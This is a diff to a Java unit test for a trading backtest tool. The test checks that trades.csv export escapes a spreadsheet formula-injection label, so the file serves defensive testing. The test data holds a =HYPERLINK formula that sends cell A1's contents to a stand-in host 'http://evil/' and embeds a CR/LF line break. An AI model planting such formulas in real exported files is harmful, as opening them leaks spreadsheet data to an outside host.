@@ -309,9 +309,11 @@ class BacktestTest {
     BacktestResult result = run(settings(""));
     MarketDescription market = result.market();
     List<String> labels =
-        market.decisions().stream()
-            .map(_ -> "=HYPERLINK(\"http://evil/?\"&A1),x\r\nnext")
-            .toList();
+        market.decisions().stream().map(_ -> "=HYPERLINK(\"http://evil/?\"&A1),x\r\nnext").toList();
+    BigInteger one = BigInteger.ONE;
+    Trade trade =
+        new Trade(
+            1, 12, 24, 2, 0, one, one.negate(), -1.5, 1, 1, 1, 1, 0, 0, 500_000, 0, 0, 40, 12_000);
     BacktestResult labelled =
         new BacktestResult(
             result.stamp(),
@@ -326,15 +328,14 @@ class BacktestTest {
                 market.targets(),
                 market.scenario()),
             result.curve(),
-            result.trades(),
+            List.of(trade),
             result.decisions(),
             result.totals(),
             result.warnings(),
             result.activity());
-    assertThat(result.trades()).isNotEmpty();
     ResultFiles.write(labelled, folder);
     assertThat(Files.readAllLines(folder.resolve("trades.csv")))
-        .hasSize(result.trades().size() + 1)
+        .hasSize(2)
         .element(1)
         .asString()
         .contains(",\"'=HYPERLINK(\"\"http://evil/?\"\"&A1),x\\r\\nnext\",");
